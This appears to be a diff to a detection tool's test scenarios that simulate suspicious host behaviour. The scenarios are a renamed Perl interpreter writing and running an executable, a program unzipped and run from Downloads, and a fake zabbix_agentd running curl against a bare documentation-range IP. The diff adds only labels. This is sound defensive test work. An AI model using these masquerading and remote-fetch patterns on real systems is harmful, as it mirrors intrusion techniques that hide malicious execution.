@@ -79,9 +79,11 @@ mkdir -p /var/lib/iwd; echo x > /var/lib/iwd/Corp.psk
 #setup cp /usr/bin/perl /usr/bin/evolution; mkdir -p /home/ann/Documents
 /usr/bin/evolution -e 'open I, "<", "/bin/true"; open O, ">", "/home/ann/Documents/scan"; print O $_ while <I>; close O; chmod 0755, "/home/ann/Documents/scan"'; /home/ann/Documents/scan
 ## Program out of a downloaded archive run
+#also Program run from a folder of downloads
 #setup mkdir -p /usr/lib/firefox /home/ann/Downloads /opt/a; cp /bin/true /opt/a/tool; cp /usr/bin/python3.11 /usr/lib/firefox/firefox; chown 1000 /home/ann/Downloads; cd /opt/a; zip -q a.zip tool
 setpriv --reuid 1000 --regid 1000 --clear-groups /usr/lib/firefox/firefox -c 'open("/home/ann/Downloads/a.zip", "wb").write(open("/opt/a/a.zip", "rb").read())'
 cd /home/ann/Downloads; setpriv --reuid 1000 --regid 1000 --clear-groups unzip -q a.zip; setpriv --reuid 1000 --regid 1000 --clear-groups ./tool
 ## Foreign code brought by an agent of administration
+#also Transfer tool given a bare address
 #setup shells /usr/sbin/zabbix_agentd
 /usr/sbin/zabbix_agentd -c 'sh -c "curl -s -m 1 http://203.0.113.9/m || true"; :'
